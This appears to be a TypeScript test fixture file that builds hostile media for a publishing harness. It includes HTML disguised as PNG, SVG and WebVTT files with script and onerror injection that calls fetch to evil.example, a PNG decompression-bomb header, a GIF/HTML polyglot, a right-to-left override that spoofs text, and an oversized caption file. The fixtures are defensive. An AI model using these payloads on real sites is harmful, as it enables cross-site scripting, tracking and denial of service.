import type { PublishedFile } from '../harness/publish.ts';

const bytes = (text: string) => new TextEncoder().encode(text);

const SCRIPT = 'globalThis.hostile = true; fetch("https://evil.example/from-media")';

/** A picture of some bytes that says it is larger than any memory. */
function bomb(): Uint8Array {
  const head = new Uint8Array(64);
  head.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  const view = new DataView(head.buffer);
  view.setUint32(16, 60_000);
  view.setUint32(20, 60_000);
  head.set([8, 2], 24);
  return head;
}

/** Files that are not what they are said to be, or more than they seem. None of them may be shown. */
export const HOSTILE_FILES = {
  page: { type: 'image/png', bytes: bytes(`<!doctype html><script>${SCRIPT}</script>`) },
  drawing: {
    type: 'image/svg+xml',
    bytes: bytes(
      `<svg xmlns="http://www.w3.org/2000/svg" onload='${SCRIPT}'><script>${SCRIPT}</script><image href="https://evil.example/x.png"/></svg>`,
    ),
  },
  bomb: { type: 'image/png', bytes: bomb() },
  script: { type: 'application/javascript', bytes: bytes(SCRIPT) },
} satisfies Record<string, PublishedFile>;

/** The head of a picture and then a page: a picture that is broken, whatever else one may see in it. */
export const HALF_PICTURE: PublishedFile = {
  type: 'text/html',
  bytes: bytes(`GIF89a\u0004\0\u0002\0<script>${SCRIPT}</script>`),
};

/** Captions whose cues are markup, whose style asks for a picture, and of which one turns its letters around. */
export const HOSTILE_VTT: PublishedFile = {
  type: 'text/vtt',
  bytes: bytes(`WEBVTT

STYLE
::cue { background-image: url(https://evil.example/cue.png); }

00:00.000 --> 00:08.000
<v Mallory><b><script>${SCRIPT}</script></b> Stop <i>here</i></v>

00:00.000 --> 00:08.000
<img src="https://evil.example/x.png" onerror="${SCRIPT.replaceAll('"', "'")}"> Look first

00:00.000 --> 00:08.000
Pay to \u202etnuocca gnorw\u202c
`),
};

const CUE = '00:00.000 --> 99:00.000\nAll at once\n\n';

/** More cues than any film has, all to be seen at the same time. */
export const VTT_WITHOUT_END: PublishedFile = {
  type: 'text/vtt',
  bytes: bytes(`WEBVTT\n\n${CUE.repeat(60_000)}`),
};
